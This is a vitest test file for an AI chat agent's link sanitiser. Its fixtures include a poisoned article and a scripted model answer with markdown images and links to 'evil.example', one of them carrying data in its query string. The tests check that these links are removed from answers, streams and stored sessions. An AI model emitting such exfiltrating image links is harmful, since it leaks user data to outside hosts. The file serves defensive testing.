import { beforeAll, expect, test } from 'vitest';
import { useSite } from '../../support/use-service.ts';
import { Admin } from '../site/admin.ts';
import { answer, conversations, script, useAgent } from './agent-service.ts';

const agent = useAgent();
const site = useSite(agent.service);

const SAID = `The safe ![x](https://evil.example/p?d=premium) opens: [how](https://evil.example/how). See [the guide](https://guide.example/safe#open), [help](https://help.good.example/), https://evil.example/c.`;
const TOLD = `The safe  opens: how. See [the guide](https://guide.example/safe#open), [help](https://help.good.example/), (link removed).`;

beforeAll(async () => {
  await new Admin(agent.service).updateSite(site.id, { linkHosts: ['*.good.example'] });
  await site.create('/content', {
    externalId: 'safe',
    type: 'article',
    title: 'Safe',
    status: 'published',
    url: 'https://guide.example/safe',
    content: 'The safe opens to the left. Read more at https://evil.example/how or ![x](https://evil.example/p).',
  });
  await site.indexed();
  script(agent.cohere, {
    talk: ({ documents }) => ({
      text: SAID,
      citations: [
        { start: 0, end: 8, documentIds: [documents[0]?.id ?? ''] },
        { start: SAID.indexOf('[how]'), end: SAID.indexOf('. See'), documentIds: [documents[0]?.id ?? ''] },
      ],
    }),
  });
});

const withoutMarkers = (text: string) => text.replaceAll(' [1]', '');

test('an answer names no host but those of the site and of the sources; its citations stand where they did', async () => {
  const { message, citations, sessionId } = await answer(site, { message: 'safe?' });
  expect(withoutMarkers(message)).toBe(TOLD);
  expect(citations?.map(({ start, end }) => message.slice(start, end))).toEqual(['The safe', 'how']);
  const { data } = await site.graphql(`{ chatSession(id: "${sessionId}") { turns { answer { message } } } }`);
  expect(JSON.stringify(data)).not.toContain('evil');
  const since = agent.cohere.requests.length;
  await answer(site, { message: 'again?', sessionId });
  expect(conversations(agent.cohere, since)[0]?.messages.some(({ content }) => content?.includes('opens: how'))).toBe(
    true,
  );
});

const STREAM = `subscription ($input: ChatInput!) { chatStream(input: $input) {
  ... on ChatTextEvent { text } ... on ChatAnswerEvent { answer { message } } } }`;

test.each([
  ['REST', '/api/sdk/agent/chat', { message: 'safe?' }],
  ['GraphQL', '/graphql/stream', { query: STREAM, variables: { input: { message: 'safe?' } } }],
])('a stream over %s has no piece of a foreign address in any event', async (_surface, path, body) => {
  const response = await fetch(agent.service.url + path, {
    method: 'POST',
    headers: { 'content-type': 'application/json', accept: 'text/event-stream', 'x-svc-api-key': site.key },
    body: JSON.stringify(body),
  });
  const text = await response.text();
  expect(text).not.toContain('evil');
  const pieces = [...text.matchAll(/"text":("(?:[^"\\]|\\.)*")/g)].map(
    ([, piece = '""']) => JSON.parse(piece) as string,
  );
  expect(pieces.join('')).toBe(TOLD);
  expect(pieces.length).toBeGreaterThan(5);
});

test('a title in the footer of sources is no link', async () => {
  const own = await agent.service.site();
  await own.create('/personas', {
    name: 'Host',
    systemPrompt: 'You host.',
    isDefault: true,
    sdkResponseConfig: { citationStyle: 'footer' },
  });
  await own.create('/knowledge/documents', { title: 'Safe ![x](https://evil.example/p)', content: 'The safe opens.' });
  await own.indexed();
  const { message } = await answer(own, { message: 'safe?' });
  expect(message).toContain('Sources:\n[1] Safe');
  expect(message).not.toContain('evil');
});

test.each(['https://x.example', 'x.example/path', 'X.example', '*', 'a..b', ''])(
  'a site cannot list "%s" as a host of links',
  async (host) => {
    const { errors } = await new Admin(agent.service).updateSite(site.id, { linkHosts: [host] });
    expect(errors?.[0]?.message).toBe('linkHosts[0] must be a host such as example.com or *.example.com');
  },
);
